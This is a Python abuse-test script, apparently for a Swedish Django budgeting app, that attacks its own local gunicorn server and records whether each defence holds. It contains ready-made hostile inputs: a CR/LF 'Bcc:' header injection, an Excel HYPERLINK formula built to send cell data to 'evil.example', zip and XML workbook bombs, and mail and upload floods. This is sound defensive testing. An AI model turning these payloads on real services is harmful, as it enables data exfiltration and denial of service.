"""Attacks on the server as a member or a stranger would try them, against gunicorn on
PostgreSQL with the production settings; prints per attack whether the server held, the
time taken and how much memory the worker gained.

Creates the PostgreSQL database ``finsam_abuse`` (or ``$ABUSE_DATABASE``) on
127.0.0.1:5432 (dropped at the end), migrates it and loads the demo data, gives each
förbund a draft, starts gunicorn from ``docker/gunicorn.conf.py`` on the loopback
address with a local SMTP sink as its mail server, and runs each attack of ``ATTACKS``
in order. Memory is read from ``/proc``: each worker's resident size (VmRSS) and peak
(VmHWM) before and after the attack.

Run from the project folder: ``.venv/bin/python bench/abuse.py`` (see bench/README.md).
Standard library only (and psycopg, a dependency of the project, to create the database;
openpyxl, another, to build the workbook bombs and read the exported workbook).

To add an attack, write ``def name(ctx: Context) -> Outcome`` and decorate it with
``@attack("what it tries")``; ``ctx`` has the port, an HTTP helper, a logged-in session
(``ctx.login(username)``), the mail sink and ``ctx.manage(...)``.
"""

import argparse
import contextlib
import http.client
import os
import re
import signal
import socket
import socketserver
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from http.cookies import SimpleCookie
from pathlib import Path
from urllib.parse import urlencode

ROOT = Path(__file__).resolve().parent.parent
HOST = "127.0.0.1"  # loopback only
PG_ADMIN_URL = "postgresql://postgres@127.0.0.1:5432/postgres"
# Another name with ABUSE_DATABASE, so that two runs on one machine do not meet.
DATABASE = os.environ.get("ABUSE_DATABASE", "finsam_abuse")
DATABASE_URL = f"postgres://postgres@127.0.0.1:5432/{DATABASE}"
PASSWORD = "demo"
KANSLI = "samspelet-kansli"
ASSOCIATION = "samspelet"
TARGET_EMAIL = "abuse-target@example.se"
REQUEST_TIMEOUT = 60.0
CSRF_INPUT = re.compile(r'name="csrfmiddlewaretoken" value="([^"]+)"')
MIB = 1024 * 1024
# Seconds between two rounds of terminating every connection (each like a restart).
DROP_INTERVAL = 1.0


class BenchError(Exception):
    """A failure that ends the run with a message and a non-zero exit status."""


# HTTP -------------------------------------------------------------------------------


@dataclass
class Response:
    status: int
    body: bytes
    headers: http.client.HTTPMessage

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", "replace")


def http_request(port, method, path, cookies=None, body=None, headers=None) -> Response:
    """One request on a fresh connection; Set-Cookie updates ``cookies``."""
    headers = dict(headers or {})
    if cookies:
        headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in cookies.items())
    connection = http.client.HTTPConnection(HOST, port, timeout=REQUEST_TIMEOUT)
    try:
        connection.request(method, path, body=body, headers=headers)
        response = connection.getresponse()
        content = response.read()
    finally:
        connection.close()
    if cookies is not None:
        for header in response.headers.get_all("Set-Cookie") or []:
            for name, morsel in SimpleCookie(header).items():
                cookies[name] = morsel.value
    return Response(response.status, content, response.headers)


@dataclass
class Session:
    """A browser: cookies, and forms posted with their CSRF token and Referer."""

    port: int
    cookies: dict = field(default_factory=dict)

    def get(self, path, **headers) -> Response:
        return http_request(self.port, "GET", path, self.cookies, headers=headers)

    def post_form(self, path, data: dict, form_path: str | None = None) -> Response:
        form = self.get(form_path or path)
        match = CSRF_INPUT.search(form.text)
        if not match:
            raise BenchError(f"GET {form_path or path} gave {form.status} without a CSRF token")
        body = urlencode({**data, "csrfmiddlewaretoken": match.group(1)})
        return http_request(
            self.port,
            "POST",
            path,
            self.cookies,
            body=body,
            headers={
                "Content-Type": "application/x-www-form-urlencoded",
                "Referer": f"http://{HOST}:{self.port}{form_path or path}",
            },
        )


# The mail server: an SMTP sink on the loopback address that counts what it receives.


class MailSink(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self):
        super().__init__((HOST, 0), SmtpHandler)
        self.messages: list[bytes] = []
        self.lock = threading.Lock()

    @property
    def port(self):
        return self.server_address[1]

    def count(self) -> int:
        with self.lock:
            return len(self.messages)


class SmtpHandler(socketserver.StreamRequestHandler):
    """Just enough SMTP for Django's backend: greeting, EHLO, MAIL, RCPT, DATA, QUIT."""

    def reply(self, line: str):
        self.wfile.write(line.encode() + b"\r\n")

    def handle(self):
        self.reply("220 sink")
        while True:
            line = self.rfile.readline(4096)
            if not line:
                return
            verb = line.decode("ascii", "replace").strip().split(" ")[0].upper()
            if verb == "DATA":
                self.reply("354 go on")
                data = []
                while (chunk := self.rfile.readline(65536)) not in (b".\r\n", b""):
                    data.append(chunk)
                with self.server.lock:
                    self.server.messages.append(b"".join(data))
                self.reply("250 queued")
            elif verb == "QUIT":
                self.reply("221 bye")
                return
            else:
                self.reply("250 ok")


# Processes and memory -----------------------------------------------------------------


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind((HOST, 0))
        return probe.getsockname()[1]


def proc_status(pid: int) -> dict[str, int]:
    """VmRSS and VmHWM of a process, in bytes (empty if it is gone)."""
    values = {}
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            key, _, rest = line.partition(":")
            if key in ("VmRSS", "VmHWM"):
                values[key] = int(rest.split()[0]) * 1024
    except (FileNotFoundError, ProcessLookupError):
        pass
    return values


def children(pid: int) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
        except (FileNotFoundError, ProcessLookupError, PermissionError):
            continue
        # The parent pid is the second field after the command name (in parentheses).
        if int(stat.rsplit(")", 1)[1].split()[1]) == pid:
            found.append(int(entry.name))
    return found


@dataclass
class Memory:
    """Each worker's resident size and peak at one moment."""

    workers: dict[int, dict[str, int]]

    @classmethod
    def of(cls, master: int) -> "Memory":
        return cls({pid: proc_status(pid) for pid in children(master)})

    def growth(self, later: "Memory") -> tuple[float, float]:
        """(largest RSS growth, largest peak growth) over the workers alive both times, MiB."""
        rss = peak = 0
        for pid, before in self.workers.items():
            after = later.workers.get(pid)
            if not after or not before:
                continue
            rss = max(rss, after["VmRSS"] - before["VmRSS"])
            peak = max(peak, after["VmHWM"] - max(before["VmHWM"], before["VmRSS"]))
        return rss / MIB, peak / MIB


class Server:
    """gunicorn from docker/gunicorn.conf.py on the loopback address."""

    def __init__(self, env: dict, workers: int, log_path: Path):
        self.port = free_port()
        self.log_path = log_path
        command = [
            sys.executable,
            "-m",
            "gunicorn",
            "--config",
            str(ROOT / "docker" / "gunicorn.conf.py"),
            "--chdir",
            str(ROOT),
        ]
        from gunicorn import config

        if hasattr(config, "ControlSocketDisable"):
            command.append("--no-control-socket")
        command.append("finsam.wsgi:application")
        server_env = {
            **env,
            "GUNICORN_BIND": f"{HOST}:{self.port}",
            "GUNICORN_WORKERS": str(workers),
        }
        self.log = open(log_path, "wb")  # noqa: SIM115 (closed in stop())
        self.process = subprocess.Popen(
            command, cwd=ROOT, env=server_env, stdout=self.log, stderr=subprocess.STDOUT
        )
        try:
            self._wait_until_ready(log_path)
        except BaseException:
            self.stop()  # a gunicorn that did not come up is not left running
            raise
        # Every worker answers the login page once, so each has loaded what it keeps.
        for _ in range(workers * 3):
            http_request(self.port, "GET", "/accounts/login/")

    def _wait_until_ready(self, log_path: Path) -> None:
        deadline = time.monotonic() + 60
        while True:
            if self.process.poll() is not None:
                raise BenchError(f"gunicorn exited:\n{log_path.read_text()[-3000:]}")
            if time.monotonic() > deadline:
                raise BenchError("gunicorn did not answer within 60 s")
            with contextlib.suppress(OSError, http.client.HTTPException):
                if http_request(self.port, "GET", "/healthz").status == 200:
                    return
            time.sleep(0.2)

    def stop(self):
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            try:
                self.process.wait(timeout=30)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()
        self.log.close()


# Attacks --------------------------------------------------------------------------------


@dataclass
class Outcome:
    held: bool
    detail: str


@dataclass
class Context:
    port: int
    server: Server
    mail: MailSink
    env: dict
    workers: int
    tmp: Path
    _kansli: Session | None = None
    drafts: dict = field(default_factory=dict)  # förbund slug -> a draft plan's pk

    def session(self) -> Session:
        return Session(self.port)

    @property
    def kansli(self) -> Session:
        """The kansli user of the demo förbund, logged in once before the attacks (an
        Argon2 login takes 100 MiB for a moment, which is not the attack's doing)."""
        return self._kansli

    def login(self, username: str = KANSLI) -> Session:
        session = self.session()
        answer = session.post_form("/accounts/login/", {"username": username, "password": PASSWORD})
        if answer.status != 302:
            raise BenchError(f"logging in as {username} gave {answer.status}")
        return session

    def manage(self, *args: str) -> str:
        return subprocess.run(
            [sys.executable, "manage.py", *args],
            cwd=ROOT,
            env=self.env,
            check=True,
            capture_output=True,
            text=True,
        ).stdout


@dataclass
class Attack:
    name: str
    run: Callable[[Context], Outcome]


ATTACKS: list[Attack] = []


def attack(name: str):
    def register(function):
        ATTACKS.append(Attack(name, function))
        return function

    return register


@attack("anonymous 300 MB POST to the login page")
def large_anonymous_post(ctx: Context) -> Outcome:
    declared = 300 * MIB
    sent = 0
    with socket.create_connection((HOST, ctx.port), timeout=REQUEST_TIMEOUT) as sock:
        sock.sendall(
            b"POST /accounts/login/ HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            b"Content-Type: application/x-www-form-urlencoded\r\n"
            + f"Content-Length: {declared}\r\n\r\n".encode()
        )
        chunk = b"a" * MIB
        # Keep sending (at most the declared size) until the server answers and closes.
        sock.settimeout(0.05)
        answer = b""
        while sent < declared:
            try:
                sock.sendall(chunk)
                sent += len(chunk)
            except (BrokenPipeError, ConnectionResetError):
                break
            with contextlib.suppress(TimeoutError, BlockingIOError):
                answer += sock.recv(65536)
                if answer:
                    break
        sock.settimeout(REQUEST_TIMEOUT)
        with contextlib.suppress(OSError):
            while data := sock.recv(65536):
                answer += data
    status = answer.split(b" ", 2)[1].decode() if answer.startswith(b"HTTP/") else "none"
    return Outcome(status == "413", f"answer {status} after {sent // MIB} MB sent")


OTHER_DEMO_USERS = [
    f"{slug}-{role}"
    for slug in ["ostra-varmland", "insjoriket", "norra-vastmanland"]
    for role in ["kansli", "styrelse", "projektledare", "revisor"]
] + ["samspelet-styrelse", "samspelet-revisor", "samspelet-projektledare"]  # 15 in all


@attack("password-reset mails: 8 to one address, then 15 other users from one client")
def reset_flood(ctx: Context) -> Outcome:
    before = ctx.mail.count()
    for _ in range(8):
        session = ctx.session()
        session.post_form("/accounts/password_reset/", {"email": TARGET_EMAIL})
    to_one = ctx.mail.count() - before
    for username in OTHER_DEMO_USERS:
        session = ctx.session()
        session.post_form("/accounts/password_reset/", {"email": f"{username}@example.se"})
    total = ctx.mail.count() - before
    return Outcome(
        to_one <= 3 and total <= 10,
        f"{to_one} mails for 8 requests to one address; {total} for all "
        f"{8 + len(OTHER_DEMO_USERS)} requests from the client (limits 3 and 10)",
    )


@attack("förbund name with CR/LF, then an invitation")
def crlf_name(ctx: Context) -> Outcome:
    session = ctx.kansli
    details = f"/f/{ASSOCIATION}/details/"
    answer = session.post_form(details, {"name": "Samspelet\r\nBcc: abuse@example.se"})
    refused = answer.status == 200 and "radbrytningar" in answer.text
    before = ctx.mail.count()
    invite = session.post_form(
        f"/f/{ASSOCIATION}/users/invite/",
        {"email": "crlf-check@example.se", "first_name": "C", "last_name": "R", "role": "revisor"},
    )
    sent = ctx.mail.count() - before
    return Outcome(
        refused and invite.status == 302 and sent == 1,
        f"name {'refused' if refused else 'ACCEPTED'} ({answer.status}); "
        f"the next invitation answered {invite.status} and sent {sent} mail",
    )


@attack("invitation flood: 60 invitations from one förbund")
def invitation_flood(ctx: Context) -> Outcome:
    session = ctx.kansli
    before = ctx.mail.count()
    accepted = refused = 0
    for n in range(60):
        answer = session.post_form(
            f"/f/{ASSOCIATION}/users/invite/",
            {"email": f"flood-{n}@example.se", "first_name": "F", "last_name": str(n)}
            | {"role": "revisor"},
        )
        if answer.status == 302:
            accepted += 1
        elif "inbjudningar det senaste dygnet" in answer.text:
            refused += 1
    sent = ctx.mail.count() - before
    # The CR/LF attack's invitation counts towards the same day's 50.
    return Outcome(
        sent <= 50 and refused > 0,
        f"{accepted} accepted, {refused} refused with the message, {sent} mails sent",
    )


@attack("database unreachable: a second gunicorn pointed at a closed port")
def database_unreachable(ctx: Context) -> Outcome:
    closed = free_port()
    env = {**ctx.env, "DATABASE_URL": f"postgres://postgres@127.0.0.1:{closed}/{DATABASE}"}
    server = Server(env, 1, ctx.tmp / "gunicorn-nodb.log")
    try:
        # A logged-in user's cookie (the same SECRET_KEY): reading the session needs the
        # database. Pages that need none (the login form) still answer.
        member = Session(server.port, dict(ctx.kansli.cookies))
        pages = [member.get(path) for path in ["/", f"/f/{ASSOCIATION}/", "/accounts/login/"]]
        stranger = Session(server.port)
        login = stranger.post_form("/accounts/login/", {"username": KANSLI, "password": "x"})
        healthz = http_request(server.port, "GET", "/healthz").status
        readyz = http_request(server.port, "GET", "/readyz").status
    finally:
        server.stop()
    log = (ctx.tmp / "gunicorn-nodb.log").read_text()
    outage_lines = log.count("database unavailable")
    failing = [*pages, login]
    statuses = [answer.status for answer in failing]
    swedish = all("Tjänsten är tillfälligt otillgänglig" in answer.text for answer in failing)
    retry = all(answer.headers.get("Retry-After") == "30" for answer in failing)
    held = (
        statuses == [503] * len(failing)
        and swedish
        and retry
        and (healthz, readyz) == (200, 503)
        and outage_lines == 1
    )
    return Outcome(
        held,
        f"3 pages and the login POST answered {statuses} (Swedish page, Retry-After: "
        f"{retry}), healthz {healthz}, readyz {readyz}; outage logged {outage_lines}× "
        f"for {len(failing)} failing requests",
    )


@attack("read-only database (default_transaction_read_only): pages and login")
def read_only_database(ctx: Context) -> Outcome:
    def set_read_only(on: bool):
        with admin_connection() as connection:
            value = "on" if on else "off"
            connection.execute(
                f"ALTER DATABASE {DATABASE} SET default_transaction_read_only = {value}"
            )
            # Kept connections keep their setting: end them, the workers reconnect.
            connection.execute(
                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity "
                "WHERE datname = %s AND pid <> pg_backend_pid()",
                [DATABASE],
            )

    set_read_only(True)
    try:
        member = Session(ctx.port, dict(ctx.kansli.cookies))
        pages = [member.get(path) for path in [f"/f/{ASSOCIATION}/", f"/f/{ASSOCIATION}/users/"]]
        login = ctx.session().post_form(
            "/accounts/login/", {"username": KANSLI, "password": PASSWORD}
        )
    finally:
        set_read_only(False)
    after = Session(ctx.port, dict(ctx.kansli.cookies)).get(f"/f/{ASSOCIATION}/").status
    failing = [*pages, login]
    statuses = [answer.status for answer in failing]
    swedish = all("Tjänsten är tillfälligt otillgänglig" in answer.text for answer in failing)
    return Outcome(
        statuses == [503] * len(failing) and swedish and after == 200,
        f"2 pages and the login POST answered {statuses} (the session is saved on every "
        f"request); writable again: {after}",
    )


@attack("PostgreSQL drops every connection each second under load (200 GETs)")
def dropped_connections(ctx: Context) -> Outcome:
    from collections import Counter

    statuses: Counter = Counter()
    lock = threading.Lock()
    done = threading.Event()
    paths = [f"/f/{ASSOCIATION}/", f"/f/{ASSOCIATION}/parties/", f"/f/{ASSOCIATION}/users/"]

    def client(n: int):
        session = Session(ctx.port, dict(ctx.kansli.cookies))
        for i in range(50):
            status = session.get(paths[(n + i) % len(paths)]).status
            with lock:
                statuses[status] += 1

    def terminator():
        terminated = 0
        with admin_connection() as connection:
            while not done.wait(DROP_INTERVAL):
                terminated += len(
                    connection.execute(
                        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity "
                        "WHERE datname = %s AND pid <> pg_backend_pid()",
                        [DATABASE],
                    ).fetchall()
                )
        statuses["terminated"] = terminated

    killer = threading.Thread(target=terminator)
    killer.start()
    clients = [threading.Thread(target=client, args=(n,)) for n in range(4)]
    for thread in clients:
        thread.start()
    for thread in clients:
        thread.join()
    done.set()
    killer.join()
    terminated = statuses.pop("terminated")
    answered = dict(sorted(statuses.items()))
    held = set(answered) <= {200, 503}
    return Outcome(
        held,
        f"answers {answered} while {terminated} connections were terminated "
        "(a 503 is a write or a second failure; no 500, no 400)",
    )


@attack("/healthz and /readyz: answers, a foreign Host header, nothing leaked")
def probes(ctx: Context) -> Outcome:
    answers = []
    for path in ["/healthz", "/readyz"]:
        for host in ["127.0.0.1", "evil.example"]:
            answer = http_request(ctx.port, "GET", path, headers={"Host": host})
            answers.append((answer.status, answer.body))
    held = all(answer == (200, b"ok\n") for answer in answers)
    return Outcome(held, f"{len(answers)} probes, all 200 'ok'" if held else str(answers))


# Workbook bombs, PDF downloads, formula exports ------------------------------------------

SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b"<sheetData>"
)
SHEET_TAIL = b"</sheetData></worksheet>"


def workbook_with(name: str, parts) -> bytes:
    """A real workbook whose part ``name`` is written from the byte strings ``parts``
    (the bombs of tests/budgets/test_upload_bombs.py, built with openpyxl and zipfile)."""
    import io
    import zipfile

    from openpyxl import Workbook

    source = io.BytesIO()
    book = Workbook()
    book.active.title = "Budget"
    book.active["A1"] = "Rad"
    book.save(source)
    output = io.BytesIO()
    with (
        zipfile.ZipFile(source) as original,
        zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as bomb,
    ):
        for member in original.namelist():
            if member != name:
                bomb.writestr(member, original.read(member))
        with bomb.open(name, "w", force_zip64=True) as stream:
            for part in parts:
                stream.write(part)
    return output.getvalue()


def one_huge_cell():
    yield SHEET_HEAD + b'<row r="1"><c r="A1" t="inlineStr"><is><t>'
    for _ in range(100):
        yield b"A" * MIB
    yield b"</t></is></c></row>" + SHEET_TAIL


def many_shared_strings(count: int):
    yield (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    )
    for _ in range(count // 10_000):
        yield b"<si><t>a</t></si>" * 10_000
    yield b"</sst>"


def one_long_row(count: int):
    yield SHEET_HEAD + b'<row r="1">'
    for _ in range(count // 10_000):
        yield b"<c><v>1</v></c>" * 10_000
    yield b"</row>" + SHEET_TAIL


WORKBOOK_BOMBS = {
    "a cell of 100 MB": lambda: workbook_with("xl/worksheets/sheet1.xml", one_huge_cell()),
    "3 million shared strings": lambda: workbook_with(
        "xl/sharedStrings.xml", many_shared_strings(3_000_000)
    ),
    "a row of a million cells": lambda: workbook_with(
        "xl/worksheets/sheet1.xml", one_long_row(1_000_000)
    ),
}


def post_file(session: Session, path: str, field_name: str, filename: str, data: bytes):
    """A multipart form with one file, posted with the form's CSRF token."""
    form = session.get(path)
    match = CSRF_INPUT.search(form.text)
    if not match:
        raise BenchError(f"GET {path} gave {form.status} without a CSRF token")
    boundary = "finsam-bench-boundary"
    body = (
        (
            f"--{boundary}\r\n"
            'Content-Disposition: form-data; name="csrfmiddlewaretoken"\r\n\r\n'
            f"{match.group(1)}\r\n"
            f"--{boundary}\r\n"
            f'Content-Disposition: form-data; name="{field_name}"; filename="{filename}"\r\n'
            "Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
            "\r\n\r\n"
        ).encode()
        + data
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return http_request(
        session.port,
        "POST",
        path,
        session.cookies,
        body=body,
        headers={
            "Content-Type": f"multipart/form-data; boundary={boundary}",
            "Referer": f"http://{HOST}:{session.port}{path}",
        },
    )


@attack("workbook bombs: three small uploads to a draft's budget import")
def workbook_bombs(ctx: Context) -> Outcome:
    path = f"/f/{ASSOCIATION}/budgets/plans/{ctx.drafts[ASSOCIATION]}/import/"
    rows, held = [], True
    for kind, make in WORKBOOK_BOMBS.items():
        data = make()
        before = Memory.of(ctx.server.process.pid)
        started = time.monotonic()
        answer = post_file(ctx.kansli, path, "file", "budget.xlsx", data)
        seconds = time.monotonic() - started
        _rss, peak = before.growth(Memory.of(ctx.server.process.pid))
        refused = answer.status == 200 and "för stor uppackad" in answer.text
        held &= refused and seconds < 2 and peak < 50
        rows.append(
            f"{kind} ({len(data) // 1024} kB): "
            f"{'refused' if refused else f'NOT REFUSED ({answer.status})'} "
            f"in {seconds:.2f} s, peak +{peak:.1f} MiB"
        )
    return Outcome(held, "; ".join(rows))


def percentile(values: list[float], share: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(share * len(ordered)))]


def home_page_times(session: Session, path: str, *, count: int | None, until=None) -> list:
    """Seconds of each GET of ``path`` in a row: ``count`` of them, or until ``until`` is
    set (at most 5000)."""
    times = []
    for _ in range(count or 5000):
        if until is not None and until.is_set():
            break
        started = time.monotonic()
        answer = session.get(path)
        times.append(time.monotonic() - started)
        if answer.status != 200:
            raise BenchError(f"GET {path} gave {answer.status}")
    return times


PDF_DOWNLOADS = 10
# A download that gets the waiting page asks again after its Retry-After, as the
# page's refresh does, at most this many times.
PDF_ATTEMPTS = 20


WATCHED = "ostra-varmland"  # the förbund whose home page is timed while others download


def pdf_storm(ctx: Context, downloads: list[tuple[Session, str]]) -> Outcome:
    """Another förbund's home page p95, idle and while ``downloads`` run in parallel
    (each asking again after the waiting page's Retry-After, as its refresh does)."""
    watcher = ctx.login(f"{WATCHED}-kansli")
    home = f"/f/{WATCHED}/"
    home_page_times(watcher, home, count=5)  # warm
    idle = home_page_times(watcher, home, count=100)
    done = threading.Event()
    got_pdf: list[int] = []
    results: list[tuple[int, int, float]] = []  # (final status, attempts, seconds)
    lock = threading.Lock()

    def download(session: Session, path: str):
        started = time.monotonic()
        attempts = 0
        while attempts < PDF_ATTEMPTS:
            attempts += 1
            answer = session.get(path)
            if answer.status != 503:
                break
            time.sleep(int(answer.headers.get("Retry-After", "5")))
        with lock:
            results.append((answer.status, attempts, time.monotonic() - started))
            if answer.status == 200 and answer.body.startswith(b"%PDF"):
                got_pdf.append(attempts)

    watching: list[float] = []

    def watch():
        watching.extend(home_page_times(watcher, home, count=None, until=done))

    watch_thread = threading.Thread(target=watch)
    watch_thread.start()
    threads = [threading.Thread(target=download, args=item) for item in downloads]
    started = time.monotonic()
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    window = time.monotonic() - started
    done.set()
    watch_thread.join()
    idle_p95, load_p95 = percentile(idle, 0.95), percentile(watching, 0.95)
    ratio = load_p95 / idle_p95
    first = sum(1 for status, attempts, _s in results if attempts == 1 and status == 200)
    waited = [attempts for _status, attempts, _s in results if attempts > 1]
    slowest = max(seconds for _status, _attempts, seconds in results)
    held = len(got_pdf) == len(downloads) and ratio <= 2
    return Outcome(
        held,
        f"{WATCHED}'s home page p95 {idle_p95 * 1000:.0f} ms idle, {load_p95 * 1000:.0f} ms "
        f"while the downloads ran ({len(watching)} requests in {window:.1f} s): ratio "
        f"{ratio:.2f} (bar 2); {len(got_pdf)} of {len(downloads)} got the PDF, {first} at "
        f"once, {len(waited)} after the waiting page (asked {sum(waited)} times), the last "
        f"after {slowest:.1f} s",
    )


@attack(f"{PDF_DOWNLOADS} parallel downloads of a draft's PDF by one revisor")
def pdf_downloads(ctx: Context) -> Outcome:
    revisor = ctx.login(f"{ASSOCIATION}-revisor")
    path = f"/f/{ASSOCIATION}/plans/{ctx.drafts[ASSOCIATION]}/document.pdf"
    return pdf_storm(ctx, [(Session(ctx.port, dict(revisor.cookies)), path)] * PDF_DOWNLOADS)


@attack(f"{PDF_DOWNLOADS} parallel downloads by people of four förbund (PDF and PDF/A)")
def pdf_downloads_many_people(ctx: Context) -> Outcome:
    downloads = []
    for slug in sorted(set(ctx.drafts) - {WATCHED}):
        for role, name in [("kansli", "document.pdf"), ("styrelse", "document-arkiv.pdf")]:
            session = ctx.login(f"{slug}-{role}")
            downloads.append((session, f"/f/{slug}/plans/{ctx.drafts[slug]}/{name}"))
    # Each förbund's drafts once more, by the same people: ten in all.
    downloads = (downloads * 2)[:PDF_DOWNLOADS]
    return pdf_storm(ctx, downloads)


FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&B5,"Mer info")'


@attack("budget line named as a formula, exported to Excel")
def formula_export(ctx: Context) -> Outcome:
    import io

    from openpyxl import load_workbook

    ctx.manage("shell", "-c", name_a_line(ctx.drafts[ASSOCIATION]))
    answer = ctx.kansli.get(f"/f/{ASSOCIATION}/budgets/plans/{ctx.drafts[ASSOCIATION]}/excel/")
    if answer.status != 200:
        return Outcome(False, f"the export answered {answer.status}")
    book = load_workbook(io.BytesIO(answer.body))
    cells = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    as_text = [cell for cell in cells if cell.data_type == "s" and cell.value == FORMULA_NAME]
    return Outcome(
        bool(cells) and len(as_text) == len(cells),
        f"{len(cells)} cell(s) with the name, {len(as_text)} a text cell holding it unchanged"
        + ("" if len(as_text) == len(cells) else f"; as written: {cells[0].data_type}"),
    )


# Running ----------------------------------------------------------------------------------


# Every demo user gets an address (the attacked kansli user a fixed one), so a reset
# request for any of them would send a mail.
GIVE_ADDRESSES = f"""
from associations.models import User
for user in User.objects.exclude(username__in=["admin", "{KANSLI}"]):
    User.objects.filter(pk=user.pk).update(email=user.username + "@example.se")
User.objects.filter(username="{KANSLI}").update(email="{TARGET_EMAIL}")
"""


# A draft of each förbund (the demo's plans are approved): next year's, copied as a kansli
# would. Prints "draft <slug> <pk>" lines.
MAKE_DRAFTS = """
from django_scopes import scope
from associations.models import Association, User
from plans.models import Plan
from plans.services import plan_copy_to_next_year
for association in Association.objects.order_by("slug"):
    with scope(association=association):
        draft = Plan.objects.filter(association=association, status="draft").first()
        if draft is None:
            source = Plan.objects.filter(association=association).order_by("-year").first()
            kansli = User.objects.get(username=association.slug + "-kansli")
            draft = plan_copy_to_next_year(plan=source, acting_user=kansli)
        print("draft", association.slug, draft.pk)
"""


def name_a_line(draft: int) -> str:
    """Shell code: the first budget line of a draft gets a name Excel would run as a formula."""
    return f"""
from django_scopes import scopes_disabled
from budgets.models import BudgetLine
with scopes_disabled():
    line = BudgetLine.objects.filter(group__budget__plan_id={draft}).order_by("pk").first()
    BudgetLine.objects.filter(pk=line.pk).update(name={FORMULA_NAME!r})
"""


def parse_args():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--workers", type=int, default=2, help="gunicorn sync workers [2]")
    parser.add_argument("--only", nargs="*", help="run only the attacks with these function names")
    return parser.parse_args()


def admin_connection():
    import psycopg

    return psycopg.connect(PG_ADMIN_URL, autocommit=True)


def create_database():
    with admin_connection() as connection:
        connection.execute(f"DROP DATABASE IF EXISTS {DATABASE} WITH (FORCE)")
        connection.execute(f"CREATE DATABASE {DATABASE}")


def drop_database():
    with admin_connection() as connection:
        connection.execute(f"DROP DATABASE IF EXISTS {DATABASE} WITH (FORCE)")


def production_env(mail_port: int) -> dict:
    env = {k: v for k, v in os.environ.items() if k in ("PATH", "HOME", "LANG", "TMPDIR")}
    # The PDF rendering limits may be tried with other values (PDF_RENDER_WAIT=0 …).
    env.update({k: v for k, v in os.environ.items() if k.startswith("PDF_RENDER_")})
    env.update(
        DEBUG="false",
        SECRET_KEY="bench-abuse-" + "x" * 50,
        ALLOWED_HOSTS="127.0.0.1",
        DATABASE_URL=DATABASE_URL,
        # Plain HTTP on the loopback address.
        SECURE_SSL_REDIRECT="false",
        SESSION_COOKIE_SECURE="false",
        CSRF_COOKIE_SECURE="false",
        STATICFILES_BACKEND="django.contrib.staticfiles.storage.StaticFilesStorage",
        EMAIL_HOST=HOST,
        EMAIL_PORT=str(mail_port),
        GUNICORN_LOG_LEVEL="warning",
        # The demo users log in many times from one address in a few seconds.
        LOG_LEVEL="WARNING",
        REQUEST_LOG_LEVEL="WARNING",
    )
    return env


def main():
    args = parse_args()
    mail = MailSink()
    threading.Thread(target=mail.serve_forever, daemon=True).start()
    env = production_env(mail.port)
    server = None
    with tempfile.TemporaryDirectory(prefix="finsam-abuse-") as tmp:
        tmp = Path(tmp)
        try:
            create_database()
            ctx = Context(0, None, mail, env, args.workers, tmp)
            ctx.manage("migrate", "--noinput", "-v0")
            ctx.manage("load_demo")
            ctx.manage("shell", "-c", GIVE_ADDRESSES)
            drafts = ctx.manage("shell", "-c", MAKE_DRAFTS)
            ctx.drafts = {
                words[1]: int(words[2])
                for words in (line.split() for line in drafts.splitlines())
                if len(words) == 3 and words[0] == "draft"
            }
            server = Server(env, args.workers, tmp / "gunicorn.log")
            ctx.port, ctx.server = server.port, server
            ctx._kansli = ctx.login()
            print(f"gunicorn (docker/gunicorn.conf.py), {args.workers} workers, PostgreSQL")
            print(f"{'attack':<76} {'result':<8} {'time':>7} {'RSS':>9} {'peak':>9}")
            failures = 0
            for item in ATTACKS:
                if args.only and item.run.__name__ not in args.only:
                    continue
                before = Memory.of(server.process.pid)
                started = time.monotonic()
                outcome = item.run(ctx)
                seconds = time.monotonic() - started
                rss, peak = before.growth(Memory.of(server.process.pid))
                failures += not outcome.held
                result = "held" if outcome.held else "NOT HELD"
                print(f"{item.name:<76} {result:<8} {seconds:6.2f}s {rss:+7.1f}Mi {peak:+7.1f}Mi")
                print(f"    {outcome.detail}")
            print("RSS: largest growth of a worker's resident size; peak: of its high-water mark.")
            if failures:
                raise BenchError(f"{failures} attack(s) not held")
        finally:
            if server is not None:
                server.stop()
            mail.shutdown()
            drop_database()


if __name__ == "__main__":
    try:
        main()
    except BenchError as error:
        print(f"error: {error}", file=sys.stderr)
        sys.exit(1)
